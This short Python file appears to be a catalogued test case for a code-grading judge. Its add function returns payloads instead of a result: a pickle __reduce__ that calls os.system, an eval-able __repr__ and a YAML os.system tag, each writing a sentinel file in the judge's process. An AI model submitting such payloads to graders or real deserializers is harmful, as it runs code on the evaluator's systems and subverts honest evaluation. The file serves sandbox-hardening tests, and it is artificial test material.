# Return an object that runs code where it is unpickled, in the judge's process.
# catalogue: H31
# shows: nothing: no naive judge here unpickles outside the sandbox
import os

print("attacking", flush=True)


class Exploit:
    def __reduce__(self):
        return os.system, ("echo owned > @SENTINEL@",)

    def __repr__(self):
        return "__import__('os').system('echo owned > @SENTINEL@')"


def add(a, b):
    return [Exploit(), "!!python/object/apply:os.system ['echo owned > @SENTINEL@']"]
